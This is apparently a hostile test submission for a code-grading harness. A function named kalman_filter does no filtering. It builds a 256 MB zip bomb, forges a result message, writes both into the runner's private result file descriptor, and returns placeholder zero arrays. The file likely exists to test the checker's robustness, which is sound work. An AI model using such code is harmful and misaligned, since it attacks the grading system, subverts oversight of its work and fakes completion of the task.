"""Hostile: a result that inflates: a zip file of zeros pushed down the checker's result channel
(and left where the old checker read its result file)."""
import os
import sys
import zipfile

import numpy as np


def _bomb(path, megabytes=256):
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        with zf.open("x.npy", "w", force_zip64=True) as f:
            block = b"\0" * (1 << 20)
            for _ in range(megabytes):
                f.write(block)


def kalman_filter(z):
    _bomb("output.npz")
    with open("output.npz", "rb") as f:
        data = f.read()
    runner = sys.modules["__main__"]
    header = b'{"t": "result", "call": 0, "returned": {}}'
    os.write(runner._FD, len(header).to_bytes(4, "big") + header + data)
    return np.zeros((len(z), 3)), np.zeros((len(z), 3, 3))
